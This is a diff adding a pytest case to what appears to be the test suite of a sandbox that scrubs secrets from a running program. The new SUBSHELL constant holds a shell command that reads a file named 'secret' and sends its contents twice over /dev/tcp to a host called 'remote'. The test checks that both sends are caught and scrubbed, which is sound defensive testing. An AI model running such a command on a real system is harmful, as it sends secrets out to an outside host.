@@ -17,6 +17,16 @@ def test_program_goes_on(case, outcome):
     assert not outcome.tainted, outcome.describe()
 
 
+SUBSHELL = "x=$(tr '\\n' ' ' < secret); (echo first $x > /dev/tcp/remote/9; echo second $x > /dev/tcp/remote/9)"
+
+
+@pytest.mark.parametrize("case", [Case("subshell", SUBSHELL, "takeover")], ids=str)
+def test_forked_child_goes_on(case, outcome):
+    assert_scrubbed(outcome)
+    assert outcome.status == 0 and len(outcome.questions) == 1, outcome.describe()
+    assert b"first" in outcome.received and b"second" in outcome.received, outcome.describe()
+
+
 @pytest.mark.parametrize("case", [Case("all", f"takeover secret {HALVES}", "takeover")], ids=str)
 def test_nothing_of_the_secret_stays(case, outcome):
     """Memory, registers, open and mapped files; the same file read again, and by a child. One question for all."""
